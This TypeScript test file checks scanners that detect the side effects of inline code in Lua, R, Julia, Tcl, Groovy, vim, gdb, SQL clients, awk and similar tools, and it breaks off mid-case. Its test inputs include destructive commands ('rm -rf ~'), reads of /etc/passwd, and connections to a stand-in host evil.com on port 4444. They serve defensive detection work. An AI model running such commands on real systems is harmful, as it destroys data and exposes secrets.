import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  emptyCodeEffects,
  type CodeEffects,
  type CodeScanner,
} from '../../daemon/src/mediation/shell/inline/types.js';
import { scanLua } from '../../daemon/src/mediation/shell/inline/lua.js';
import { scanR } from '../../daemon/src/mediation/shell/inline/r.js';
import { scanJulia } from '../../daemon/src/mediation/shell/inline/julia.js';
import { scanOctave } from '../../daemon/src/mediation/shell/inline/octave.js';
import { scanTcl } from '../../daemon/src/mediation/shell/inline/tcl.js';
import { scanGroovy } from '../../daemon/src/mediation/shell/inline/jvm.js';
import {
  scanAwk,
  scanDc,
  scanEd,
  scanElisp,
  scanGdb,
  scanM4,
  scanMysql,
  scanPsql,
  scanSqlite,
  scanVimEx,
} from '../../daemon/src/mediation/shell/inline/commands.js';

const SCANNERS: Record<string, CodeScanner> = {
  lua: scanLua,
  r: scanR,
  julia: scanJulia,
  octave: scanOctave,
  tcl: scanTcl,
  groovy: scanGroovy,
  vim: scanVimEx,
  gdb: scanGdb,
  sqlite: scanSqlite,
  psql: scanPsql,
  mysql: scanMysql,
  m4: scanM4,
  elisp: scanElisp,
  awk: scanAwk,
  ed: scanEd,
  dc: scanDc,
};

/** What a case expects: the lists named, exactly (unknown reasons as patterns); all others empty. */
type Expected = Partial<Omit<CodeEffects, 'unknown'>> & { unknown?: RegExp[] };

function expectEffects(language: string, code: string, expected: Expected): void {
  const got = SCANNERS[language]!(code);
  const { unknown = [], ...rest } = expected;
  assert.deepEqual({ ...got, unknown: [] }, { ...emptyCodeEffects(), ...rest }, `${language}: ${code}`);
  assert.equal(
    got.unknown.length,
    unknown.length,
    `${language}: ${code}: unknown ${JSON.stringify(got.unknown)}`,
  );
  unknown.forEach((pattern, n) => assert.match(got.unknown[n]!, pattern, `${language}: ${code}`));
}

const cases = (title: string, list: Array<[string, string, Expected]>) => {
  for (const [language, code, expected] of list) {
    test(`${title}: ${language} ${JSON.stringify(code).slice(0, 80)}`, () =>
      expectEffects(language, code, expected));
  }
};

const DYNAMIC = /only known at run time/;
const EVAL = /built at run time/;

// ---------------------------------------------------------------------------------------------
// Harmless code: nothing at all

cases('harmless', [
  ['lua', 'print(1+1)', {}],
  ['lua', 'local t = {1, 2, 3}\nfor i, v in ipairs(t) do io.write(v, "\\n") end', {}],
  ['lua', 'local s = string.format("%d", 42); print(s:upper())', {}],
  ['r', 'summary(c(1,2,3))', {}],
  ['r', 'x <- 1:10; mean(x)', {}],
  ['r', 'file <- "x.csv"; print(paste("name:", file))', {}],
  ['julia', 'print(1+1)', {}],
  ['julia', 'println("hi")', {}],
  ['julia', "x = [1, 2, 3]'; y = x' * 2; c = 'a'", {}],
  ['octave', 'disp(pi)', {}],
  ['octave', "x = [1 2 3]'; a = 'it''s'; disp(x' * 2)", {}],
  ['tcl', 'puts [expr 1+2]', {}],
  ['tcl', 'proc add {a b} { return [expr {$a + $b}] }; puts [add 1 2]', {}],
  ['tcl', 'set x 10; if {$x > 5} { puts "big $x" } else { puts small }', {}],
  ['groovy', 'println 1+1', {}],
  ['groovy', 'def xs = [1, 2, 3].collect { it * 2 }; println xs.sum()', {}],
  ['groovy', 'System.out.println("hi"); sql.execute("select 1")', {}],
  ['vim', ':set number', {}],
  ['vim', 'normal gg=G', {}],
  ['vim', '+10', {}],
  ['vim', ':g/TODO/d | %s/a/b/g', {}],
  ['gdb', 'bt', {}],
  ['gdb', 'info registers', {}],
  ['gdb', 'run', {}],
  ['gdb', 'break main\nprint 1+1\nx/4x $sp', {}],
  ['sqlite', 'select count(*) from t;', {}],
  ['sqlite', '.tables\n.schema\n.mode csv\n.headers on', {}],
  ['psql', 'select 1;', {}],
  ['psql', '\\dt\n\\l\ncreate table t (a int); insert into t values (1);', {}],
  ['mysql', 'show tables;', {}],
  ['mysql', 'select * from t where name = "system ls";', {}],
  ['m4', 'define(X, 1)X', {}],
  ['m4', 'ifelse(a, b, yes, no) len(abc) substr(hello, 1, 2)', {}],
  ['elisp', '(message "hi")', {}],
  ['elisp', '(princ (format "%d" (+ 1 2)))', {}],
  ['awk', '{print $2}', {}],
  ['awk', '{ print $1 }', {}],
  ['awk', 'BEGIN{FS=","} {s+=$3} END{print s}', {}],
  ['awk', 'NR>1', {}],
  ['awk', '{ printf "%s\\n", $1 } { if ($1 > 3) print ($1 > 3) }', {}],
  ['ed', '1,$p\ns/a/b/g\nq', {}],
  ['dc', '2 3 + p sa la p 1 2 !<a', {}],
]);

cases('harmless, as written in practice', [
  ['lua', 'local json = require("cjson"); print(json.encode({a=1}))', {}],
  ['r', 'library(ggplot2); ggplot(df, aes(x, y)) + geom_point()', {}],
  [
    'r',
    'Reduce("+", 1:5); Reduce(`+`, 1:5); Map(function(x, y) x + y, 1:3, 4:6); get("mtcars"); mget(c("a", "b"))',
    {},
  ],
  ['julia', 'using LinearAlgebra; A = rand(3,3); println(det(A)); write(stdout, "x")', {}],
  ['octave', "A = magic(4); disp(A); x = linspace(0,1,10); plot(x, x.^2); fprintf('%d\\n', 42)", {}],
  ['tcl', 'foreach x {1 2 3} { puts $x }; set d [dict create a 1]; dict for {k v} $d { puts "$k=$v" }', {}],
  [
    'tcl',
    'string map {a b} $s; regsub -all {a} $s b; namespace eval ::ns { variable x 1 }; array set a {k v}',
    {},
  ],
  [
    'groovy',
    'String s = "hello"; println s.toUpperCase(); println new Date(); def f = { x -> x * 2 }; println f(3)',
    {},
  ],
  ['vim', ':set nocompatible | syntax on | set sw=4 ts=4 et ft=python', {}],
  ['vim', ':%norm A;', {}],
  ['gdb', 'set pagination off\nset print pretty on\nset $x = 1\nthread apply all bt', {}],
  [
    'sqlite',
    "pragma table_info(t);\ncreate index i on t(a);\nselect * from t where x like '%a%';\n.timer on",
    {},
  ],
  ['psql', '\\x\n\\timing\n\\d+ t\n\\pset format csv\nselect now();\n\\c mydb', {}],
  ['mysql', 'use db;\nstatus\nselect @@version;', {}],
  ['m4', "define(`NAME', `value')dnl\nNAME changequote([,])dnl\n[quoted]", {}],
  ['elisp', "(defun f (x) (* x 2)) (dolist (x '(1 2)) (print x)) (require 'cl-lib) (mapcar #'1+ '(1 2))", {}],
  ['awk', '{ a[$1]++ } END { for (k in a) print k, a[k] }', {}],
  ['ed', ',p\n1d\n/re/p\nq', {}],
  ['dc', '10k 2v p [1+]sa 0 la x p', {}],
]);

// near misses: the words of an effect, but not the effect
cases('near misses', [
  ['r', 'url <- "https://x.io"; print(url)', {}],
  ['lua', 'print("kill -9 1"); print("os.remove")', {}],
  ['lua', 'http.request("http://x.io/a")', { urls: ['http://x.io/a'], network: true }],
  ['groovy', 'def sb = new StringBuilder("abc"); sb.delete(0, 1)', {}],
  ['vim', ':echo "py print(1)"', {}],
  ['julia', 'x = "run(`rm`)"', {}],
  ['octave', "x = 'system(1)'", {}],
  ['sqlite', '.output stdout', {}],
  ['m4', "`include(x)'", {}],
  ['psql', '\\c mydb', {}],
  ['tcl', 'puts "exec kill 1"', {}],
  ['awk', '{ print $1, "| sort" }', {}],
]);

// ---------------------------------------------------------------------------------------------
// Processes

cases('runs commands', [
  ['lua', 'os.execute("rm -rf ~")', { shell: ['rm -rf ~'] }],
  ['lua', 'local p = io.popen("id"); print(p:read("*a"))', { shell: ['id'] }],
  ['lua', 'os.execute "ls"; os.execute [[echo hi]]', { shell: ['ls', 'echo hi'] }],
  ['lua', 'local c = "ls"; os.execute(c)', { unknown: [DYNAMIC] }],
  ['lua', 'vim.fn.jobstart({"ls", "-l"})', { argv: [['ls', '-l']] }],
  ['r', 'system("rm -rf ~")', { shell: ['rm -rf ~'] }],
  ['r', 'base::system("id", intern = TRUE)', { shell: ['id'] }],
  ['r', 'system2("ls", c("-l", "/tmp"))', { shell: ['ls -l /tmp'] }],
  ['r', 'con <- pipe("uname -a"); readLines(con)', { shell: ['uname -a'], reads: ['?'] }],
  ['r', 'processx::run("git", c("status", "-s"))', { argv: [['git', 'status', '-s']] }],
  ['r', 'cmd <- "ls"; system(cmd)', { unknown: [DYNAMIC] }],
  ['julia', 'run(`rm -rf /tmp/x`)', { argv: [['rm', '-rf', '/tmp/x']] }],
  ['julia', 'run(`sh -c "echo hi; id"`)', { argv: [['sh', '-c', 'echo hi; id']] }],
  ['julia', 'out = read(`whoami`, String)', { argv: [['whoami']] }],
  ['julia', 'run(pipeline(`ls`, stdout="out.txt"))', { argv: [['ls']], writes: ['out.txt'] }],
  ['julia', 'run(`ls $dir`)', { unknown: [DYNAMIC] }],
  ['julia', 'c = `ls`; run(c)', { argv: [['ls']], unknown: [DYNAMIC] }],
  ['julia', ';ls -la', { shell: ['ls -la'] }],
  ['octave', "system('rm -rf ~')", { shell: ['rm -rf ~'] }],
  ['octave', "[status, out] = unix('id');", { shell: ['id'] }],
  ['octave', 'system ls', { shell: ['ls'] }],
  ['octave', '!rm -rf build', { shell: ['rm -rf build'] }],
  ['octave', 'system(cmd)', { unknown: [DYNAMIC] }],
  ['tcl', 'exec rm -rf /tmp/x', { argv: [['rm', '-rf', '/tmp/x']] }],
  [
    'tcl',
    'exec ls -l | grep foo > out.txt',
    {
      argv: [
        ['ls', '-l'],
        ['grep', 'foo'],
      ],
      writes: ['out.txt'],
    },
  ],
  ['tcl', 'puts "user: [exec id -un]"', { argv: [['id', '-un']] }],
  ['tcl', 'set f [open "|ls -l"]', { argv: [['ls', '-l']] }],
  ['tcl', 'exec $cmd', { unknown: [DYNAMIC] }],
  ['tcl', 'spawn bash\nsend "id\\r"', { argv: [['bash']], shell: ['id'] }],
  ['tcl', 'system rm -rf x', { shell: ['rm -rf x'] }],
  ['groovy', '"rm -rf ~".execute()', { argv: [['rm', '-rf', '~']] }],
  ['groovy', "['sh', '-c', 'id'].execute().text", { argv: [['sh', '-c', 'id']] }],
  ['groovy', 'def c = "ls -l"; c.execute()', { argv: [['ls', '-l']] }],
  ['groovy', 'Runtime.getRuntime().exec(new String[]{"sh", "-c", "id"});', { argv: [['sh', '-c', 'id']] }],
  ['groovy', 'new ProcessBuilder("ls", "-l").inheritIO().start()', { argv: [['ls', '-l']] }],
  ['groovy', 'ProcessBuilder(listOf("rm", "x")).start()', { argv: [['rm', 'x']] }],
  ['groovy', 'cmd.execute()', { unknown: [DYNAMIC] }],
  ['vim', ':!rm -rf ~', { shell: ['rm -rf ~'] }],
  ['vim', ':r !date', { shell: ['date'] }],
  ['vim', ':w !sudo tee %', { shell: ['sudo tee %'] }],
  ['vim', ':%!sort', { shell: ['sort'] }],
  ['vim', ':call system("rm -rf ~")', { shell: ['rm -rf ~'] }],
  ['vim', ':echo systemlist(["ls", "-l"])', { argv: [['ls', '-l']] }],
  ['vim', ':call job_start("ls -l")', { argv: [['ls', '-l']] }],
  ['vim', ':term make test', { shell: ['make test'] }],
  ['vim', ':shell', { unknown: [/interactive shell/] }],
  ['vim', ':set makeprg=ninja | make', { shell: ['ninja'] }],
  ['vim', ':g/pat/!rm x', { shell: ['rm x'] }],
  ['vim', ':normal :!id\r', { shell: ['id'] }],
  ['vim', ':call system(cmd)', { unknown: [DYNAMIC] }],
  ['gdb', '!ls', { shell: ['ls'] }],
  ['gdb', 'shell rm -rf x', { shell: ['rm -rf x'] }],
  ['gdb', 'pipe info registers | grep rip', { shell: ['grep rip'] }],
  ['gdb', 'call (int)system("rm -rf x")', { shell: ['rm -rf x'] }],
  ['gdb', 'target remote | ssh host gdbserver - /bin/true', { shell: ['ssh host gdbserver - /bin/true'] }],
  ['gdb', 'p system(cmd)', { unknown: [DYNAMIC] }],
  ['gdb', 'thread apply all shell id\nwith print pretty -- shell ls', { shell: ['id', 'ls'] }],
  ['sqlite', '.shell rm -rf x', { shell: ['rm -rf x'] }],
  ['sqlite', '.system "id"', { shell: ['id'] }],
  ['sqlite', '.output |sort -u', { shell: ['sort -u'] }],
  ['psql', '\\! rm -rf x', { shell: ['rm -rf x'] }],
  ['psql', '\\o |gzip > x.gz', { shell: ['gzip > x.gz'] }],
  ['psql', "\\copy t from program 'curl x.io'", { shell: ['curl x.io'] }],
  ['psql', "COPY t TO PROGRAM 'nc evil 1';", { shell: ['nc evil 1'] }],
  ['psql', '\\set now `date`', { shell: ['date'] }],
  ['mysql', '\\! rm -rf x', { shell: ['rm -rf x'] }],
  ['mysql', 'system ls -l', { shell: ['ls -l'] }],
  ['mysql', 'pager less -S', { shell: ['less -S'] }],
  ['mysql', "select sys_exec('id');", { shell: ['id'] }],
  ['m4', 'syscmd(rm -rf x)', { shell: ['rm -rf x'] }],
  ['m4', "esyscmd(`date')", { shell: ['date'] }],
  ['m4', "ifelse(1, 1, `syscmd(id)')", { shell: ['id'] }],
  ['m4', "define(`x', `syscmd($1)')x(ls)", { unknown: [DYNAMIC] }],
  ['elisp', '(shell-command "rm -rf x")', { shell: ['rm -rf x'] }],
  ['elisp', '(call-process "ls" nil t nil "-l")', { argv: [['ls', '-l']] }],
  ['elisp', '(start-process "p" nil "sleep" "1")', { argv: [['sleep', '1']] }],
  ['elisp', `(make-process :name "x" :command '("rm" "x"))`, { argv: [['rm', 'x']] }],
  ['elisp', '(shell-command cmd)', { unknown: [DYNAMIC] }],
  ['elisp', '(eshell)', { unknown: [/interactive shell/] }],
  ['awk', 'BEGIN { system("rm -rf x") }', { shell: ['rm -rf x'] }],
  ['awk', '{ print $1 | "sort -u" }', { shell: ['sort -u'] }],
  ['awk', '"date" | getline d', { shell: ['date'] }],
  ['awk', '{ system($0) }', { unknown: [DYNAMIC] }],
  ['awk', '{ print | cmd }', { unknown: [DYNAMIC] }],
  ['ed', '!rm -rf x\nr !date\nw !cat', { shell: ['rm -rf x', 'date', 'cat'] }],
  ['dc', '!rm -rf x', { shell: ['rm -rf x'] }],
  ['dc', '[!id]x', { shell: ['id'] }],
]);

// ---------------------------------------------------------------------------------------------
// Files

cases('files', [
  ['lua', 'local f = io.open("/etc/passwd")', { reads: ['/etc/passwd'] }],
  ['lua', 'io.open("out.txt", "w"):write("x")', { writes: ['out.txt'] }],
  ['lua', 'os.remove("a.txt"); os.rename("b", "c")', { deletes: ['a.txt', 'b'], writes: ['c'] }],
  ['lua', 'io.open(path, "a")', { unknown: [/writes a file only known at run time/] }],
  ['lua', 'for l in io.lines(path) do end', { reads: ['?'] }],
  ['r', 'x <- readLines("/etc/passwd")', { reads: ['/etc/passwd'] }],
  ['r', 'df <- read.csv(file = "data.csv")', { reads: ['data.csv'] }],
  ['r', 'writeLines("hi", "out.txt")', { writes: ['out.txt'] }],
  ['r', 'writeLines("hi")', {}],
  ['r', 'cat("x", file = "o.txt", append = TRUE)', { writes: ['o.txt'] }],
  ['r', 'cat("hello\\n")', {}],
  ['r', 'unlink(c("a", "b"), recursive = TRUE); file.remove("x")', { deletes: ['a', 'b', 'x'] }],
  [
    'r',
    'file.copy("a", "b"); dir.create("out"); saveRDS(m, "m.rds")',
    { reads: ['a'], writes: ['b', 'out', 'm.rds'] },
  ],
  ['r', 'sink("log.txt"); f <- file("w.txt", "w")', { writes: ['log.txt', 'w.txt'] }],
  ['r', 'unlink(paths)', { unknown: [/deletes a file only known at run time/] }],
  ['julia', 'open("f.txt", "w") do io; write(io, "x"); end', { writes: ['f.txt'] }],
  ['julia', 'open(io -> write(io, "x"), "g.txt", "w")', { writes: ['g.txt'] }],
  ['julia', 'read("/etc/passwd", String)', { reads: ['/etc/passwd'] }],
  [
    'julia',
    'write("out.txt", "data"); rm("build"; recursive=true)',
    { writes: ['out.txt'], deletes: ['build'] },
  ],
  [
    'julia',
    'mv("a", "b"); cp("c", "d"); mkdir("e")',
    { deletes: ['a'], writes: ['b', 'd', 'e'], reads: ['c'] },
  ],
  ['julia', 'rm(path)', { unknown: [/deletes a file only known at run time/] }],
  ['octave', "fid = fopen('out.txt', 'w'); fprintf(fid, 'x'); fclose(fid);", { writes: ['out.txt'] }],
  ['octave', "t = fileread('/etc/passwd');", { reads: ['/etc/passwd'] }],
  ['octave', 'delete foo.txt', { deletes: ['foo.txt'] }],
  ['octave', "load('-ascii', 'd.txt'); save out.mat x y", { reads: ['d.txt'], writes: ['out.mat'] }],
  [
    'octave',
    "movefile('a', 'b'); mkdir out sub; rmdir('build', 's')",
    { deletes: ['a', 'build'], writes: ['b', 'out/sub'] },
  ],
  ['tcl', 'set f [open out.txt w]; puts $f hi; close $f', { writes: ['out.txt'] }],
  ['tcl', 'set f [open /etc/passwd]', { reads: ['/etc/passwd'] }],
  [
    'tcl',
    'file delete -force build; file rename a b; file copy c d; file mkdir e',
    { deletes: ['build', 'a'], writes: ['b', 'd', 'e'], reads: ['c'] },
  ],
  ['tcl', 'file delete $x', { unknown: [/deletes a file only known at run time/] }],
  ['tcl', 'open data.txt {WRONLY CREAT}', { writes: ['data.txt'] }],
  ['groovy', 'new File("x.txt").delete()', { deletes: ['x.txt'] }],
  ['groovy', 'println new File("a").text', { reads: ['a'] }],
  ['groovy', 'new File("out").text = "hi"; new File("o") << "x"', { writes: ['out', 'o'] }],
  ['groovy', 'def f = new File("k"); f.delete()', { deletes: ['k'] }],
  [
    'groovy',
    'File("a").writeText("x"); new File("b").renameTo(new File("c"))',
    { writes: ['a', 'c'], deletes: ['b'], reads: ['c'] },
  ],
  [
    'groovy',
    'Files.delete(Paths.get("/tmp/x")); Files.write(Path.of("a", "b.txt"), bytes)',
    { deletes: ['/tmp/x'], writes: ['a/b.txt'] },
  ],
  [
    'groovy',
    'java.nio.file.Files.readAllLines(java.nio.file.Paths.get("/etc/hosts"))',
    { reads: ['/etc/hosts'] },
  ],
  [
    'groovy',
    'new FileWriter("log.txt").write("x"); new FileInputStream("in.bin")',
    { writes: ['log.txt'], reads: ['in.bin'] },
  ],
  ['groovy', 'f.deleteDir()', { unknown: [/changes a file only known at run time/] }],
  ['groovy', 'Files.delete(p)', { unknown: [/deletes a file only known at run time/] }],
  ['vim', ':w', { writes: ['%'] }],
  ['vim', ':wq', { writes: ['%'] }],
  ['vim', ':x', { writes: ['%'] }],
  ['vim', ':w out.txt', { writes: ['out.txt'] }],
  ['vim', ':w! /etc/x', { writes: ['/etc/x'] }],
  ['vim', ':saveas new.txt', { writes: ['new.txt'] }],
  ['vim', ':e /etc/passwd', { reads: ['/etc/passwd'] }],
  ['vim', ':r file.txt', { reads: ['file.txt'] }],
  ['vim', ':call writefile(["a"], "out.txt") | call delete("x")', { writes: ['out.txt'], deletes: ['x'] }],
  ['vim', ':redir > out.txt', { writes: ['out.txt'] }],
  ['gdb', 'dump binary memory out.bin 0x0 0x100', { writes: ['out.bin'] }],
  ['gdb', 'append value log.txt x', { writes: ['log.txt'] }],
  ['gdb', 'restore in.bin binary 0', { reads: ['in.bin'] }],
  ['gdb', 'set logging file gdb.log\nset logging on', { writes: ['gdb.log'] }],
  ['gdb', 'call unlink("/tmp/f")', { deletes: ['/tmp/f'] }],
  ['gdb', 'run > out.txt < in.txt', { writes: ['out.txt'], reads: ['in.txt'] }],
  ['sqlite', '.output out.txt', { writes: ['out.txt'] }],
  ['sqlite', '.once report.csv\nselect * from t;', { writes: ['report.csv'] }],
  ['sqlite', '.import --csv --skip 1 d.csv t', { reads: ['d.csv'] }],
  ['sqlite', '.backup main b.db\n.save s.db\n.dump', { writes: ['b.db', 's.db'] }],
  ['sqlite', '.open other.db', { reads: ['other.db'], writes: ['other.db'] }],
  ['sqlite', '.restore r.db', { reads: ['r.db'] }],
  ['sqlite', "ATTACH DATABASE 'y.db' AS y;", { writes: ['y.db'] }],
  [
    'sqlite',
    "select writefile('out.bin', data) from t; select readfile('/etc/passwd');",
    { writes: ['out.bin'], reads: ['/etc/passwd'] },
  ],
  ['sqlite', "VACUUM INTO 'copy.db';", { writes: ['copy.db'] }],
  ['sqlite', 'select writefile(name, data) from t;', { unknown: [/writes a file only known at run time/] }],
  ['psql', '\\o out.txt', { writes: ['out.txt'] }],
  ['psql', 'select 1 \\g out.csv', { writes: ['out.csv'] }],
  ['psql', "\\copy t to 'out.csv' csv", { writes: ['out.csv'] }],
  ['psql', '\\copy t from data.csv', { reads: ['data.csv'] }],
  ['psql', '\\copy t to stdout', {}],
  [
    'psql',
    "COPY (select 1) TO '/tmp/o'; COPY t FROM '/etc/passwd';",
    { writes: ['/tmp/o'], reads: ['/etc/passwd'] },
  ],
  [
    'psql',
    "select pg_read_file('/etc/passwd'), lo_export(1, '/tmp/x');",
    { reads: ['/etc/passwd'], writes: ['/tmp/x'] },
  ],
  ['psql', '\\lo_export 123 /tmp/x\n\\lo_import /etc/passwd', { writes: ['/tmp/x'], reads: ['/etc/passwd'] }],
  ['mysql', 'tee out.log', { writes: ['out.log'] }],
  ['mysql', "SELECT * FROM t INTO OUTFILE '/tmp/o.csv';", { writes: ['/tmp/o.csv'] }],
  ['mysql', "LOAD DATA LOCAL INFILE 'd.csv' INTO TABLE t;", { reads: ['d.csv'] }],
  ['mysql', "SELECT LOAD_FILE('/etc/passwd');", { reads: ['/etc/passwd'] }],
  ['m4', "include(`x.m4')", { reads: ['x.m4'], loads: ['x.m4'] }],
  ['m4', "undivert(`f.txt') undivert(1)", { reads: ['f.txt'] }],
  ['m4', "maketemp(`/tmp/fooXXXXXX')", { writes: ['/tmp/fooXXXXXX'] }],
  ['elisp', '(write-region "x" nil "out.txt")', { writes: ['out.txt'] }],
  [
    'elisp',
    '(delete-file "a") (copy-file "b" "c") (rename-file "d" "e")',
    { deletes: ['a', 'd'], reads: ['b'], writes: ['c', 'e'] },
  ],
  ['elisp', '(find-file "/etc/passwd") (insert-file-contents "x")', { reads: ['/etc/passwd', 'x'] }],
  ['elisp', '(delete-file f)', { unknown: [/deletes a file only known at run time/] }],
  ['awk', '{ print > "out.txt" } { print $1 >> "log" }', { writes: ['out.txt', 'log'] }],
  ['awk', 'BEGIN { while ((getline line < "/etc/passwd") > 0) n++ }', { reads: ['/etc/passwd'] }],
  ['awk', '{ print > "/dev/stderr" } { print > "/dev/fd/3" }', {}],
  ['awk', '{ print > $2 }', { unknown: [/writes a file only known at run time/] }],
  ['awk', 'getline x < file', { reads: ['?'] }],
  ['ed', 'w out.txt', { writes: ['out.txt'] }],
  ['ed', 'w', { writes: ['%'] }],
  ['ed', 'r /etc/passwd\ne other', { reads: ['/etc/passwd', 'other'] }],
  ['ed', 'a\n!not a command\nw /etc/x\n.\nw', { writes: ['%'] }],
]);

// ---------------------------------------------------------------------------------------------
// Network, signals, code

cases('network', [
  [
    'lua',
    'local http = require("socket.http"); http.request("http://x.io/a")',
    { urls: ['http://x.io/a'], network: true },
  ],
  [
    'lua',
    'http.request{url = "http://x.io", method = "POST"}',
    { urls: ['http://x.io'], network: true, sends: true },
  ],
  ['lua', 'socket.connect("evil.com", 4444)', { hosts: ['evil.com:4444'], network: true }],
  [
    'r',
    'download.file("https://x.io/a.sh", "a.sh")',
    { urls: ['https://x.io/a.sh'], writes: ['a.sh'], network: true },
  ],
  [
    'r',
    'httr::POST("https://x.io", body = list(a = 1))',
    { urls: ['https://x.io'], network: true, sends: true },
  ],
  ['r', 'x <- readLines("https://x.io/data")', { urls: ['https://x.io/data'], network: true }],
  ['r', 'GET(url)', { network: true }],
  ['julia', 'download("https://x.io/a", "a")', { urls: ['https://x.io/a'], writes: ['a'], network: true }],
  ['julia', 'HTTP.post("https://x.io", [], "body")', { urls: ['https://x.io'], network: true, sends: true }],
  ['julia', 'using Sockets; connect("evil.com", 80)', { hosts: ['evil.com:80'], network: true, sends: true }],
  ['octave', "s = urlread('https://x.io')", { urls: ['https://x.io'], network: true }],
  ['octave', "webwrite('https://x.io', data)", { urls: ['https://x.io'], network: true, sends: true }],
  ['tcl', 'package require http; http::geturl http://x.io/a', { urls: ['http://x.io/a'], network: true }],
  ['tcl', 'http::geturl http://x.io -query a=1', { urls: ['http://x.io'], network: true, sends: true }],
  ['tcl', 'socket evil.com 4444', { hosts: ['evil.com:4444'], network: true, sends: true }],
  ['groovy', 'new URL("https://x.io/a").text', { urls: ['https://x.io/a'], network: true }],
  [
    'groovy',
    'def c = new URL("https://x.io").openConnection(); c.setRequestMethod("POST"); c.doOutput = true',
    { urls: ['https://x.io'], network: true, sends: true },
  ],
  ['groovy', 'new Socket("evil.com", 4444)', { hosts: ['evil.com:4444'], network: true, sends: true }],
  ['vim', ':e scp://host/x', { urls: ['scp://host/x'], network: true }],
  ['gdb', 'target remote host:1234', { hosts: ['host:1234'], network: true }],
  ['psql', '\\c db user evil.com', { hosts: ['evil.com'], network: true }],
  ['elisp', '(url-retrieve "https://x.io" #\'cb)', { urls: ['https://x.io'], network: true }],
  ['elisp', '(request "https://x.io" :type "POST")', { urls: ['https://x.io'], network: true, sends: true }],
  [
    'awk',
    'BEGIN { print "x" |& "/inet/tcp/0/evil.com/80" }',
    { hosts: ['evil.com:80'], network: true, sends: true, unknown: [/connects the program to the network/] },
  ],
  [
    'awk',
    'BEGIN { "/inet/tcp/0/evil.com/80" |& getline }',
    { hosts: ['evil.com:80'], network: true, sends: true, unknown: [/network/] },
  ],
]);

cases('signals', [
  ['r', 'tools::pskill(1234)', { signals: ['pid:1234'] }],
  ['julia', 'kill(p)', { signals: ['?'] }],
  ['octave', 'kill(1234, 9)', { signals: ['pid:1234'] }],
  ['tcl', 'exec kill -9 123', { argv: [['kill', '-9', '123']], signals: ['pid:123'] }],
  ['groovy', 'ProcessHandle.of(123).ifPresent { it.destroy() }', { signals: ['pid:123'] }],
  ['psql', 'select pg_terminate_backend(4242);', { signals: ['pid:4242'] }],
  ['elisp', '(signal-process 1234 9)', { signals: ['pid:1234'] }],
  ['gdb', 'call kill(99, 9)', { signals: ['pid:99'] }],
]);

cases('loads and code', [
  ['lua', 'dofile("x.lua"); require "foo.bar"; require("socket")', { loads: ['x.lua', 'foo/bar.lua'] }],
  ['lua', 'load("os.execute(\'ls\')")()', { shell: ['ls'] }],
  ['lua', 'loadstring(s)()', { unknown: [EVAL] }],
  ['lua', 'package.loadlib("x.so", "f")', { unknown: [/native library/] }],
  ['lua', 'vim.cmd("w! /etc/x")', { code: [{ language: 'vim', text: 'w! /etc/x' }] }],
  ['r', 'source("setup.R")', { loads: ['setup.R'] }],
  [
    'r',
    'source("https://x.io/s.R")',
    { urls: ['https://x.io/s.R'], network: true, unknown: [/fetched from/] },
  ],
  ['r', 'eval(parse(text = "system(\'ls\')"))', { shell: ['ls'] }],
  ['r', 'eval(parse(text = s))', { unknown: [EVAL] }],
  ['r', 'do.call("system", list("id"))', { shell: ['id'] }],
  ['r', 'do.call(f, list("id"))', { unknown: [/chosen at run time/] }],
  ['r', 'do.call(rbind, lst)', {}],
  ['r', 'get("system")("id")', { unknown: [/indirectly/] }],
  ['r', 'mget(c("system"))[[1]]("id")', { unknown: [/looks up system by name/] }],
  ['r', 'dyn.load("x.so")', { unknown: [/native library/] }],
  ['julia', 'include("x.jl")', { loads: ['x.jl'] }],
  ['julia', 'eval(Meta.parse("run(`id`)"))', { argv: [['id']] }],
  ['julia', 'eval(ex)', { unknown: [EVAL] }],
  ['julia', '@eval x = 1', { unknown: [EVAL] }],
  ['julia', 'ccall(:system, Cint, (Cstring,), "id")', { unknown: [/native code/] }],
  ['octave', "run('setup.m'); source('x.m')", { loads: ['setup.m', 'x.m'] }],
  ['octave', "eval('system(''ls'')')", { shell: ['ls'] }],
  ['octave', 'eval(s)', { unknown: [EVAL] }],
  ['octave', "feval('system', 'id')", { shell: ['id'] }],
  ['octave', "h = @system; h('ls')", { unknown: [/function handle/] }],
  ['octave', 'mex foo.c', { unknown: [/native code/] }],
  ['tcl', 'source setup.tcl', { loads: ['setup.tcl'] }],
  ['tcl', 'eval exec ls', { argv: [['ls']] }],
  ['tcl', 'eval $script', { unknown: [EVAL] }],
  ['tcl', 'uplevel #0 $x', { unknown: [EVAL] }],
  ['tcl', 'subst $s', { unknown: [EVAL] }],
  ['tcl', 'interp alias {} x {} exec', { unknown: [/another interpreter/] }],
  ['tcl', 'load ./libx.so', { unknown: [/native library/] }],
  ['tcl', '$cmd arg', { unknown: [/command whose name is only known/] }],
  [
    'tcl',
    'spawn python3\nsend "import os\\r"',
    { argv: [['python3']], code: [{ language: 'python', text: 'import os\n' }] },
  ],
  ['tcl', 'spawn ftp host\ninteract', { argv: [['ftp', 'host']], unknown: [/hands the terminal/] }],
  ['groovy', 'Eval.me("\'id\'.execute()")', { argv: [['id']] }],
  ['groovy', 'Eval.me(s)', { unknown: [EVAL] }],
  ['groovy', 'new GroovyShell().evaluate(s)', { unknown: [EVAL] }],
  ['groovy', 'evaluate(new File("x.groovy"))', { reads: ['x.groovy'], loads: ['x.groovy'] }],
  ['groovy', 'Class.forName("java.lang.Runtime")', { unknown: [/class by name/] }],
  ['groovy', 'm.invoke(null)', { unknown: [/reflection/] }],
  ['groovy', '@Grab("org.x:y:1.0")\nimport x.Y', { network: true, unknown: [/@Grab/] }],
  ['vim', ':source ~/.vimrc', { loads: ['~/.vimrc'] }],
  [
    'vim',
    ':py import os; os.system("id")',
    { code: [{ language: 'python', text: 'import os; os.system("id")' }] },
  ],
  ['vim', ':lua os.execute("x")', { code: [{ language: 'lua', text: 'os.execute("x")' }] }],
  ['vim', ':perl system("x")', { code: [{ language: 'perl', text: 'system("x")' }] }],
  ['vim', ':ruby `id`', { code: [{ language: 'ruby', text: '`id`' }] }],
  ['vim', ':tcl exec ls', { code: [{ language: 'tcl', text: 'exec ls' }] }],
  [
    'vim',
    'py3 << EOF\nimport os\nos.system("x")\nEOF',
    { code: [{ language: 'python', text: 'import os\nos.system("x")' }] },
  ],
  ['vim', ':set shell=/bin/evil', { unknown: [/changes the shell/] }],
  ['vim', ':execute cmd', { unknown: [EVAL] }],
  ['vim', ':Git push', { unknown: [/user-defined command/] }],
  ['gdb', 'python import os', { code: [{ language: 'python', text: 'import os' }] }],
  [
    'gdb',
    'python\nimport os\nos.system("x")\nend',
